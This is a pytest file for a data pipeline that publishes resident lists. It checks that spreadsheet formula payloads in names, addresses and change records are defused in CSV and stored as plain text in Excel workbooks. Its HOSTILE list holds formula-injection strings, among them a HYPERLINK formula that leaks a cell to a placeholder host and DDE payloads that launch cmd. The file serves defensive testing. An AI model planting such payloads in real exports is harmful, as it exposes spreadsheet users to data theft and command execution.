"""Spreadsheet formulas in names and addresses never reach a published CSV as formulas, paths with a
quote in them are no SQL, and the one rule (pipeline/spreadsheet.py) is the same in Python and SQL."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import duckdb
import openpyxl
import pyarrow.parquet as pq
import pytest

from pipeline.publish.publish import publish
from pipeline.spreadsheet import defuse_formula, defuse_formula_sql
from tests.conftest import CityEngine

HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"klik")', "+CMD|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HARMLESS = ["SITI AMINAH", "JL. MERDEKA NO. 5", "", " =not at the start", "O'BRIEN", "'already quoted", "3577"]


@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS, None])
def test_python_and_sql_rule_agree(text: str | None) -> None:
    with duckdb.connect() as con:
        sql = con.execute(f"SELECT {defuse_formula_sql('$1::VARCHAR')}", [text]).fetchall()[0][0]
    assert sql == (None if text is None else defuse_formula(text))


def test_hostile_text_is_defused_and_harmless_text_is_kept() -> None:
    assert all(defuse_formula(t) == "'" + t for t in HOSTILE)
    assert all(defuse_formula(t) == t for t in HARMLESS)


@pytest.fixture
def hostile_publication(city_engine: CityEngine, tmp_path: Path) -> tuple[Path, dict[str, str], dict[str, str]]:
    """A publication (into a folder with a quote in its name) of the small city, with formulas as the
    names and addresses of a few candidates and in the changes list; the warehouse is left as it was."""
    con = city_engine.con
    root = tmp_path / "publikasi 'uji'"
    con.execute("BEGIN TRANSACTION")
    try:
        targets = [r[0] for r in con.execute(
            "SELECT resident_id FROM candidates ORDER BY resident_id LIMIT ?", [len(HOSTILE)]).fetchall()]
        niks = {}
        for resident_id, text in zip(targets, HOSTILE, strict=True):
            con.execute("UPDATE residents SET nama = ?, alamat = ? WHERE resident_id = ?", [text, text, resident_id])
            niks[con.execute("SELECT nik FROM residents WHERE resident_id = ?", [resident_id]).fetchall()[0][0]] = text
        changes = dict(zip((f"99{i:014d}" for i in range(len(HOSTILE))), HOSTILE, strict=True))
        for nik, text in changes.items():
            con.execute("INSERT INTO changes (nik, nama, kelurahan_code, kelurahan, change, reason_code, reason) "
                        "VALUES (?, ?, '3577011001', 'Oro-oro Ombo', 'entered', 'new_in_register', ?)",
                        [nik, text, text])
        folder = publish(con, root, publication_id="20260101T000000-uji", manifest={}, extra_files={},
                         created=datetime(2026, 1, 1), nik_visible_digits=6).path
    finally:
        con.execute("ROLLBACK")
    return folder, niks, changes


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_published_csvs_hold_no_formula(hostile_publication: tuple[Path, dict[str, str], dict[str, str]]) -> None:
    folder, niks, changes = hostile_publication
    assert "'" in folder.parent.name  # the COPY statements took a path with a quote
    candidates = {row["nik"]: row for row in _csv_rows(folder / "candidates.csv")}
    for nik, text in niks.items():
        assert candidates[nik]["nama"] == "'" + text and candidates[nik]["alamat"] == "'" + text
    listed = {row["nik"]: row for row in _csv_rows(folder / "changes.csv")}
    for nik, text in changes.items():
        assert listed[nik]["nama"] == "'" + text and listed[nik]["reason"] == "'" + text
    for name in ("candidates.csv", "changes.csv"):  # no cell of any row starts a formula
        for row in _csv_rows(folder / name):
            assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values() if value)
    # the data files keep the text as it came (for auditors); harmless names are untouched in the CSV
    parquet = {r["nik"]: r["nama"] for r in pq.read_table(folder / "candidates.parquet").to_pylist()}
    assert all(parquet[nik] == text for nik, text in niks.items())
    assert sum(row["nama"] == parquet[row["nik"]] for row in candidates.values()) == len(candidates) - len(niks)


def test_workbooks_store_formulas_as_text(hostile_publication: tuple[Path, dict[str, str], dict[str, str]]) -> None:
    folder, niks, _ = hostile_publication
    # a carriage return is stored as Excel stores it, `_x000D_` (XML would turn a raw one into a line
    # feed); Excel reads it back as the character, openpyxl shows the escape
    expected = {text.replace("\r", "_x000D_") for text in niks.values()}
    found = set()
    for path in sorted((folder / "kelurahan").rglob("*.xlsx")):
        sheet = openpyxl.load_workbook(path).active
        for row in sheet.iter_rows(min_row=2):
            name = row[3]  # Nama
            if name.value in expected:
                assert name.data_type == "s"  # a string cell, shown as typed, never evaluated
                found.add(name.value)
    assert found == expected


def test_explain_reads_a_publication_whose_path_has_a_quote(
        hostile_publication: tuple[Path, dict[str, str], dict[str, str]]) -> None:
    from pipeline.published.person import explain_person

    folder, niks, _ = hostile_publication
    nik = next(iter(niks))
    explanation = explain_person(folder, nik)
    assert explanation.resident["nik"] == nik
